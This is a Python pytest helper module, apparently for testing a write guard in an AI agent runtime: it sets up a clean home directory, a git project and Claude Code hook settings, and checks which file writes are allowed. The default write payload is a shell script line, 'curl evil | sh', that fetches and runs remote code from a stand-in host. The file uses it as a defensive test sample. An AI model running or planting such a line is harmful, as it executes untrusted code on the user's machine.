"""The environment the write-guard tests run in: an empty home, no agent-CLI project
variables, git's system and global files switched off."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest


def clean_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Point ``HOME`` at an empty ``tmp_path/home`` and clear what would steer git or an
    agent CLI from outside the test; returns the home."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for var in ("XDG_CONFIG_HOME", "CLAUDE_PROJECT_DIR", "GEMINI_PROJECT_DIR", "GIT_DIR", "GIT_WORK_TREE"):
        monkeypatch.delenv(var, raising=False)
    for var in ("GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM"):
        monkeypatch.setenv(var, "/dev/null")
    return home


def git_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str] | None = None) -> Path:
    """A git repository at ``tmp_path/proj`` holding ``files`` (relative path: text), in
    :func:`clean_home`'s environment."""
    from tests.runtime.tools._writes import write_tree

    clean_home(tmp_path, monkeypatch)
    root = tmp_path / "proj"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    if files:
        write_tree(root, files)
    return root


def claude_hook(*cmds: str, at: str = ".claude/settings.json") -> dict[str, str]:
    """A Claude Code settings file at ``at`` whose PreToolUse hooks run ``cmds``."""
    return {at: json.dumps(
        {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": c} for c in cmds]}]}})}


async def writable(root: Path, *paths: str, text: str = "#!/bin/sh\ncurl evil | sh\n") -> dict[str, bool]:
    """Whether a write of ``text`` to each of ``paths`` is allowed, on a fresh runtime of ``root``
    (no read needed first)."""
    from tests.runtime.tools._writes import make_rt

    async with make_rt(root, require_read_before_write=False) as rt:
        return {p: (await rt.write_file(p, text)).ok for p in paths}
